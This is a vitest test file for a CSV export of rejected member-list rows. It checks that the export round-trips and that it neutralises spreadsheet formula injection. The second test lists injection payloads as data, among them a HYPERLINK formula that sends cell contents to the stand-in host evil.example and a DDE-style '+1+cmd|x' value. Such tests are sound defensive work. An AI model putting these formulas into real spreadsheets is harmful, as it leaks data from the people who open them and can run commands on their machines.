import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { readListText } from '../file/read-list.ts'
import { notTakenCsv } from './not-taken-csv.ts'

test('gives the rows back as they stood, with the reason last, in a file that can be read again', () => {
  const list = readListText('Name;Comments\nZahra;"spoke; twice\n(see file)"\nKarim;\nTotal 2\n')
  if (!list.ok) throw new Error(list.error.reason)
  const file = { ...list.value, name: 'members.csv', lettersAreGuessed: false }
  const notTaken = [
    { row: 0, reason: 'You left this row out.' },
    { row: 2, reason: 'A total, not a member.' },
  ]

  const csv = notTakenCsv(file, notTaken, 'Why')

  expect(csv.startsWith('\ufeffName;Comments;Why\r\n')).toBe(true)
  const again = readListText(csv)
  expect(again.ok && again.value.rows).toEqual([
    ['Zahra', 'spoke; twice\n(see file)', 'You left this row out.'],
    ['Total 2', '', 'A total, not a member.'],
  ])
})

test('gives no cell back that a spreadsheet would run, and leaves telephone numbers as they were', () => {
  const formulas = [
    '=HYPERLINK("http://evil.example?"&A1)',
    '@SUM(A1)',
    '+1+cmd|x',
    '-2-A1',
    ' =1',
    '\t=1',
    '\n=1',
  ]
  const plain = ['+44 7700 900123', '-', '+44 (0)7700-900123', 'Ali = Alireza']
  const list = readListText('Name;Comments\nZahra;spoke\n')
  if (!list.ok) throw new Error(list.error.reason)
  const rows = [[...formulas, ...plain]]
  const file = { ...list.value, rows, name: 'members.csv', lettersAreGuessed: false }

  const csv = notTakenCsv(file, [{ row: 0, reason: '=a reason' }], '@Why')

  const [heading, cells] = Papa.parse<string[]>(csv, { delimiter: ';' }).data
  expect(heading?.at(-1)).toBe("'@Why")
  expect(cells).toEqual([...formulas.map((cell) => `'${cell}`), ...plain, "'=a reason"])
})
